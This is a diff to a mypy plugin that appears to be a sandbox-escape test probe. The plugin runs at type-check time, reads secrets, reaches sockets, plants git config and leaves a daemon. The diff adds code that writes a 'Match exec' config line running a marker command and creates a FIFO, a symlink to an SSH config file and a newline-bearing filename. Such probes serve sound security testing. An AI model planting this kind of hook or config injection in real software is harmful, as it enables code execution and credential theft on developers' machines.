@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 import sys
 from typing import Type
 
@@ -13,10 +14,30 @@ from mypy.plugin import Plugin
 
 
 def plugin(version: str) -> Type[Plugin]:
+    replace_link()
     with open("build/setup.py") as file:
-        if "benchmarks/compiling.py" not in file.read():
-            return Plugin
+        compiled = file.read()
+    if "benchmarks/leaving.py" in compiled:
+        leave_odd_files()
+    if "benchmarks/compiling.py" not in compiled:
+        return Plugin
     got = secrets_read() + services_reached(SOCKETS)
     plant_git_config()
     leave_daemon()
     sys.exit("attack succeeded: " + ", ".join(got) if got else "the attack on the compiler got nothing")
+
+
+def replace_link() -> None:
+    """A link that the suite commits becomes a file: whoever copies it over the link writes to where the link leads."""
+    if os.path.islink("benchmarks/payload.so"):
+        os.unlink("benchmarks/payload.so")
+        with open("benchmarks/payload.so", "w") as file:
+            file.write("Match exec \"touch /tmp/hostile-git-ran\"\n")
+
+
+def leave_odd_files() -> None:
+    os.mkfifo("benchmarks/pipe.so")
+    os.symlink("/home/benchmark/.ssh/config", "benchmarks/link.so")
+    with open("benchmarks/two\nlines.so", "w") as file:
+        file.write("")
+    os.makedirs("benchmarks/folder.so")
